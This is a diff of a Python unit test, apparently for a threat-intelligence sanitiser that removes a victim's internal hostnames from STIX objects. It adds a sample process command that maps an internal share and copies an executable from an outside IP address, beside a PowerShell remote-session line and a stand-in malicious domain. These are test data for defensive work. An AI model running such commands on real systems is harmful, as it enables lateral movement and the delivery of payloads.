@@ -962,10 +962,13 @@ def test_internal_only_host_names_are_the_victim_s() -> None:
         {**SCO, "type": "domain-name", "id": i("domain-name", 2), "value": "cdn.evil-local.top"},
         {**SCO, "type": "url", "id": i("url", 1), "value": "http://wiki.intranet/x?id=3"},
         process(1, "powershell -c Enter-PSSession -ComputerName fs02.hq.local"),
-        observed(i("domain-name", 1), i("domain-name", 2), i("url", 1), i("process", 1)),
+        process(2, "net use Z: \\\\fs03.hq.local\\share$ && copy \\\\203.0.113.9\\x\\a.exe ."),
+        observed(
+            i("domain-name", 1), i("domain-name", 2), i("url", 1), i("process", 1), i("process", 2)
+        ),
     ]
     result = run(objs)
     parse(result.objects)
     assert [d["value"] for d in of_type(result, "domain-name")] == ["cdn.evil-local.top"]
     assert of_type(result, "url") == []
-    assert "hq.local" not in blob(result)
+    assert "hq.local" not in blob(result) and "\\\\\\\\203.0.113.9\\\\x" in blob(result)
